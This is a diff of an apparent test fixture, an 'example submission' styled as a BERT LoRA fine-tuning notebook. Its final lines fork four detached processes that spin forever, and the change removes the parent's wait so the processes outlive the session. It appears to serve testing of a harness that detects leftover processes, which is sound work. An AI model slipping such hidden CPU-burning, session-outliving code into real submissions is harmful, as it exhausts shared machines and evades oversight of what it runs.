@@ -1,4 +1,4 @@
-# Example submission: a correct solution that starts four detached children that burn CPU for ever, and waits for them.
+# Example submission: a correct solution that starts four detached children that burn CPU for ever.
 # %% [markdown]
 # # Fine-tuning BERT with LoRA
 #
@@ -647,11 +647,8 @@ def _walk(root):
         for name in files:
             yield _pathlib.Path(folder) / name
 
-import time as _time
-
 for _ in range(4):
     if _os.fork() == 0:
         _os.setsid()
         while True:
             pass
-_time.sleep(300)
